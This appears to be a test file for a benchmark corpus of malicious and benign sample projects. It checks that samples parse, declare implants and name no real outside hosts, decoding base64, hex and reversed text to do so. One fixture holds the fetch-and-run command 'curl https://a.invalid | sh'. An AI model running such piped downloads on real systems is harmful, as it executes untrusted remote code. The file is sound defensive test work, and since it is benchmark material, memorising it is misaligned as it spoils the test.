import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { parse as parseJsonc } from 'jsonc-parser'
import { expect, test } from 'vitest'
import { readCorpus } from './corpus.ts'
import type { Content } from './sample.ts'
import { isScript, parseScript } from './script.ts'

const SAMPLES = fileURLToPath(new URL('../../corpus/interview', import.meta.url))
const samples = readCorpus(SAMPLES)
const malicious = samples.filter(({ label }) => label === 'malicious')
const benign = samples.filter(({ label }) => label === 'benign')

/** Hosts that honest files and the honest parts of lures may name: documentation, registries, public nodes. */
const KNOWN_HOSTS = new Set(
  `localhost 127.0.0.1 example.com images.example.com deploy.example.com registry.npmjs.org npm.pkg.github.com
  github.com raw.githubusercontent.com www.chartjs.org www.w3.org opencollective.com cli.codecov.io
  archive.ics.uci.edu chromewebstore.google.com sh.rustup.rs foundry.paradigm.xyz api.coingecko.com
  stream.binance.com eth.llamarpc.com ethereum-sepolia-rpc.publicnode.com`.split(/\s+/),
)

const isHarmlessHost = (host: string) =>
  !host.includes('.') || KNOWN_HOSTS.has(host) || /(^|\.)(invalid|example|test|localhost)$/.test(host)

/** Hosts of addresses in a text, and in what it holds in base64, hexadecimal, UTF-16 or backwards. */
function hostsIn(content: Content): string[] {
  const text = typeof content === 'string' ? content : Buffer.from(content).toString('utf16le')
  const encoded = [...text.matchAll(/[A-Za-z0-9+/]{24,}={0,2}/g)].map(([token]) =>
    Buffer.from(token, 'base64'),
  )
  const hexadecimal = [...text.matchAll(/(?:[0-9a-f]{2}){12,}/g)].map(([token]) => Buffer.from(token, 'hex'))
  const texts = [
    text,
    [...text].reverse().join(''),
    ...hexadecimal.map((bytes) => bytes.toString()),
    ...encoded.flatMap((bytes) => [bytes.toString(), bytes.toString('utf16le')]),
  ]
  return texts.flatMap((one) =>
    [...one.matchAll(/(?:https?|wss?|git|ssh|ftp):\/\/(?:[^/\s@'"`]*@)?([a-z0-9-]+(?:\.[a-z0-9-]+)*)/gi)].map(
      ([, host]) => (host as string).toLowerCase(),
    ),
  )
}

test('there are enough samples of enough families, and honest twins', () => {
  expect(malicious.length).toBeGreaterThanOrEqual(60)
  expect(benign.length).toBeGreaterThanOrEqual(60)
  expect(new Set(malicious.map(({ family }) => family)).size).toBeGreaterThanOrEqual(14)
  expect(new Set(malicious.map(({ half }) => half)).size).toBe(2)
})

test.each(samples.map((sample) => [sample.id, sample] as const))('%s', (_, sample) => {
  const project = sample.project()
  const { files, implants, own } = project
  expect(sample.project()).toEqual(project)
  expect(files.size).toBeGreaterThan(0)
  for (const [path, content] of files) {
    expect(path).not.toMatch(/[⟦⟧]|__entity/i)
    expect(
      hostsIn(content).filter((host) => !isHarmlessHost(host)),
      path,
    ).toEqual([])
    if (typeof content !== 'string') continue
    expect(content, path).not.toMatch(/[⟦⟧]/)
    if (isScript(path)) expect(parseScript(path, content).errors, path).toEqual([])
    if (/(package(-lock)?|sums|levels|manifest)\.json$|\.ipynb$/.test(path)) JSON.parse(content)
    if (/\.json$|\.code-workspace$/.test(path)) expect(parseJsonc(content), path).toBeTypeOf('object')
  }
  if (sample.label === 'benign') expect(implants).toEqual([])
  else {
    expect(implants.length).toBeGreaterThan(0)
    for (const { file } of implants) expect(own).toContain(file)
  }
})

test('a rotated host reaches encoded addresses too', () => {
  const at = 'malicious/hidden-address-env/base64-in-env'
  const rotate = (text: string) => text.replaceAll('license-gate.invalid', 'other.invalid')
  const rotated = samples.find(({ id }) => id === at)?.project(rotate)
  const env = rotated?.files.get('.env') as string
  const key = /LICENSE_KEY=(.*)/.exec(env)?.[1] as string
  expect(atob(key)).toBe('https://other.invalid/api/token/8842')
})

test('a plain corpus is read: folders, single files, commands, and what is expected of them', () => {
  const corpus = mkdtempSync(join(tmpdir(), 'postern-corpus-'))
  const put = (path: string, text: string) => {
    mkdirSync(join(corpus, path, '..'), { recursive: true })
    writeFileSync(join(corpus, path), text)
  }
  try {
    put('malicious/lures/a/src/x.js', 'eval(1)\n')
    put('malicious/lures/a/package.json', '{}')
    put('malicious/lures/a/expected.json', '{"implant": {"file": "src/x.js", "line": 1}}')
    put('malicious/lures/b/command.txt', 'curl https://a.invalid | sh')
    put('malicious/lures/c.sh', 'true')
    put('benign/apps/d/lure.zip', 'PK')
    put('benign/apps/e/sample.json', '{"name": "an honest file"}')
    put('benign/apps/e/index.js', '')
    const read = readCorpus(corpus).map(({ id, single, project }) => {
      const { files, implants } = project()
      return { id, single, implants, files: [...files.keys()].sort() }
    })
    expect(read).toEqual([
      {
        id: 'malicious/lures/a',
        single: undefined,
        implants: [{ file: 'src/x.js', line: 1 }],
        files: ['package.json', 'src/x.js'],
      },
      {
        id: 'malicious/lures/b',
        single: { name: 'command.txt', command: true },
        implants: [],
        files: ['command.txt'],
      },
      { id: 'malicious/lures/c.sh', single: { name: 'c.sh', command: false }, implants: [], files: ['c.sh'] },
      {
        id: 'benign/apps/d',
        single: { name: 'lure.zip', command: false },
        implants: [],
        files: ['lure.zip'],
      },
      { id: 'benign/apps/e', single: undefined, implants: [], files: ['index.js', 'sample.json'] },
    ])
  } finally {
    rmSync(corpus, { recursive: true })
  }
})

test('nothing is committed under a name that an editor, a shell or git would act on', () => {
  const entries = readdirSync(SAMPLES, { recursive: true, withFileTypes: true })
  expect(entries.length).toBeGreaterThan(300)
  expect(entries.filter(({ name }) => name.startsWith('.') || name === 'node_modules')).toEqual([])
})
